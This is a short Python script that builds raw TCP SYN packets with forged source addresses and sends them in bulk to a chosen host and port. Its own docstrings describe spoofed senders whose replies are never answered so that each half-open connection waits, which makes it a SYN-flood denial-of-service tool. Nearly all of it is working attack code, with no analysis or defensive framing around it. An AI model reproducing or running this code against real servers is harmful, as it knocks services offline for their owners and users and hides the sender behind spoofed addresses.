"""Bare SYNs of whoever one likes, put together by hand: nobody waits for what answers them."""

import socket
import struct


def checksum(what):
    total = sum(struct.unpack(f"!{len(what) // 2}H", what))
    total = (total & 0xffff) + (total >> 16)
    return struct.pack("!H", ~(total + (total >> 16)) & 0xffff)


def packet(source, destination, source_port, port=80):
    """An IPv4 packet."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, 1, 0, 0x50, 2, 1024, 0, 0)
    tcp = tcp[:16] + checksum(ends + struct.pack("!HH", 6, len(tcp)) + tcp) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 7, 0, 64, 6, 0) + ends
    return ip[:10] + checksum(ip) + ip[12:] + tcp


def flood(space, sources, destination, port=80, each=10):
    """From addresses at which nobody is: what is sent back is never answered, so that each SYN waits."""
    with space.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for source in sources:
            for n in range(each):
                sock.sendto(packet(source, destination, 20000 + n, port), (destination, 0))
